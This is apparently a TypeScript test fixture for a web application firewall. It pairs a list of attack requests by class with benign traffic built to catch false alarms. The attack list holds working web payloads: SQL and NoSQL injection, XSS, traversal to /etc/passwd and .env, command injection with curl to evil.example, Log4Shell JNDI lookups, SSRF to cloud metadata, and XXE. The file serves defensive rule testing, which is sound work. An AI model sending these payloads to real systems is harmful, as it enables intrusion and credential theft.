// Samples for the tests of the baseline rules: attacks of each class, and ordinary traffic with the words and marks that
// make careless rules raise false alarms. Not used at run time.

export interface Sample {
  readonly kind: string;
  readonly target: string;
  readonly method?: string;
  readonly headers?: readonly (readonly [string, string])[];
  readonly type?: string;
  readonly body?: string;
}

const attack = (kind: string, target: string, more: Omit<Sample, 'kind' | 'target'> = {}): Sample => ({ kind, target, ...more });

export const attacks: readonly Sample[] = [
  attack('sqli', '/item?id=1%20UNION%20SELECT%20user,password%20FROM%20users'),
  attack('sqli', "/item?id=1';DROP%20TABLE%20users--"),
  attack('sqli', '/item?id=1%20AND%20SLEEP(5)'),
  attack('sqli', '/item?id=1/**/union/**/select/**/1,2,3'),
  attack('sqli', '/login', { body: "user=admin'--&password=x" }),
  attack('sqli', '/item?id=(select%20table_name%20from%20information_schema.tables)'),
  attack('sqli', '/api', { type: 'application/json', body: '{"name":"x\' or 1=1 -- "}' }),
  attack('nosqli', '/login', { body: 'user[$ne]=x&password[$ne]=y' }),
  attack('nosqli', '/login', { type: 'application/json', body: '{"user":{"$gt":""}}' }),
  attack('xss', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E'),
  attack('xss', '/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E'),
  attack('xss', '/go?url=javascript:alert(document.cookie)'),
  attack('xss', '/search?q=%3Csvg/onload=alert(1)%3E'),
  attack('xss', '/search?q=%3Ciframe%20src=//evil.example%3E'),
  attack('traversal', '/download?file=../../../../etc/passwd'),
  attack('traversal', '/download?file=..%252f..%252f..%252fetc%252fhosts'),
  attack('traversal', '/static/..%2f..%2f..%2fwindows/win.ini'),
  attack('files', '/download?file=/etc/shadow'),
  attack('files', '/.git/config'), attack('files', '/.env'), attack('files', '/backup/wp-config.php~'),
  attack('files', '/upload', { type: 'multipart/form-data; boundary=b', body: '--b\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\nx\r\n--b--\r\n' }),
  attack('rce', '/ping?host=127.0.0.1;cat%20/etc/passwd'), attack('rce', '/ping?host=127.0.0.1%7Cwhoami'), attack('rce', '/ping?host=$(id)'),
  attack('rce', '/ping?host=a%26%26curl%20http://evil.example/x'), attack('rce', '/', { headers: [['X-Test', '() { :;}; /bin/bash -c id']] }),
  attack('rce', '/run?c=powershell%20-enc%20SQBFAFgA'),
  attack('ssrf', '/fetch?url=http://169.254.169.254/latest/meta-data/'), attack('ssrf', '/fetch?url=file:///etc/passwd'), attack('ssrf', '/fetch?url=gopher://127.0.0.1:6379/_x'),
  attack('rfi', '/page?name=http://203.0.113.7/shell.txt'),
  attack('log4shell', '/', { headers: [['X-Api-Version', '${jndi:ldap://evil.example/a}']] }),
  attack('log4shell', '/?x=$%7B$%7Blower:j%7Dndi:ldap://evil.example/a%7D'),
  attack('java', '/?x=java.lang.Runtime'), attack('java', '/api', { body: 'o=rO0ABXNyABFqYXZh' }),
  attack('spring', '/?class.module.classLoader.resources.context.parent=x'),
  attack('template', '/?name=%7B%7B7*7%7D%7D'), attack('template', "/?name=%7B%7B''.__class__.__mro__%7D%7D"),
  attack('php', '/?x=%3C?php%20echo%201;'), attack('php', "/?x=system('id')"), attack('php', '/?page=php://filter/convert.base64-encode/resource=index'),
  attack('php', '/?x=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D&y=eval($_POST[1])'),
  attack('node', '/?__proto__[admin]=1'), attack('node', "/?x=require('child_process').exec('id')"),
  attack('ldap', '/?user=*)(uid=*))(|(uid=*'),
  attack('xxe', '/api', { type: 'application/xml', body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' }),
  attack('protocol', '/?x=a%0d%0aSet-Cookie:%20a=b'), attack('protocol', '/?x=a%00b'), attack('protocol', '/', { method: 'TRACE' }),
  attack('protocol', '/?x=a%0d%0aGET%20/admin%20HTTP/1.1'), attack('protocol', '/', { headers: [['Range', 'bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17']] }),
  attack('protocol', '/api', { type: 'application/json', body: '{"a":' }),
  attack('scanner', '/', { headers: [['User-Agent', 'sqlmap/1.8#stable']] }),
];

const fine = (target: string, more: Omit<Sample, 'kind' | 'target'> = {}): Sample => ({ kind: 'ordinary', target, ...more });

export const ordinary: readonly Sample[] = [
  fine('/'), fine('/index.html'), fine('/static/app.3f9c2d.js'), fine('/products/search?q=garden+shed&page=2&sort=price_asc'),
  fine("/search?q=rock+'n'+roll"), fine("/search?q=O'Brien+and+sons"), fine('/search?q=union+square+select+hotel'), fine('/search?q=drop+shipping+table+lamp'),
  fine('/search?q=how+to+select+a+laptop+or+a+tablet'), fine('/search?q=C%2B%2B+templates'), fine('/search?q=%E6%97%A5%E6%9C%AC'), fine('/search?q=50%25+off'),
  fine('/search?q=a+%3C+b+and+c+%3E+d'), fine('/search?q=cats+%26+dogs'), fine('/go?next=/account/orders?page=2'), fine('/go?url=https://www.example.org/path/page.html?x=1'),
  fine('/docs/../docs/guide.html'.replace('../docs/', '')), fine('/calendar?from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00Z'), fine('/map?lat=47.0707&lon=15.4395'),
  fine('/api/users/42?fields=name,email&sort=-created'), fine('/?filter[status]=open&filter[owner]=me'), fine('/?utm_source=news&utm_medium=email&utm_campaign=spring_sale'),
  fine('/', { headers: [['Cookie', 'session=f3a9c1d27b; theme=dark; _ga=GA1.2.1234567890.1700000000']] }),
  fine('/', { headers: [['Accept', '*/*'], ['If-None-Match', '"abc-123"'], ['Range', 'bytes=0-1023']] }),
  fine('/', { headers: [['Authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dBjftJeZ4CVP']] }),
  fine('/comment', { body: 'text=I+think+that+the+update+sets+the+table+well%3B+see+the+manual+(page+3).&name=Anna' }),
  fine('/comment', { body: 'text=Please+execute+the+order+from+the+script+we+discussed%2C+or+call+me&name=Eve' }),
  fine('/comment', { body: "text=It's+10+o'clock+and+5+%3D+5%2C+isn't+it%3F" }),
  fine('/comment', { body: 'text=first+line%0D%0Asecond+line%0D%0A%0D%0A-+a+list%0D%0A-+of+things' }),
  fine('/login', { body: 'user=anna%40example.com&password=S3cret-Pass_word.42' }),
  fine('/address', { body: 'street=Rosenweg+12%2F3&city=Graz&zip=8010&phone=%2B43+316+123456&note=ring+twice%2C+then+wait' }),
  fine('/api/orders', { type: 'application/json', body: '{"items":[{"sku":"A-1","quantity":2}],"note":"leave at the door; code is 12#","total":19.90,"gift":null}' }),
  fine('/api/orders', { type: 'application/json', body: '{"query":"name and address of the customer","limit":10,"sort":["-date","name"]}' }),
  fine('/soap', { type: 'text/xml', body: '<?xml version="1.0"?><order id="7"><item count="2">Roses &amp; tulips</item></order>' }),
  fine('/upload', { type: 'multipart/form-data; boundary=b',
    body: '--b\r\nContent-Disposition: form-data; name="f"; filename="holiday photo (1).jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\r\n--b--\r\n' }),
];
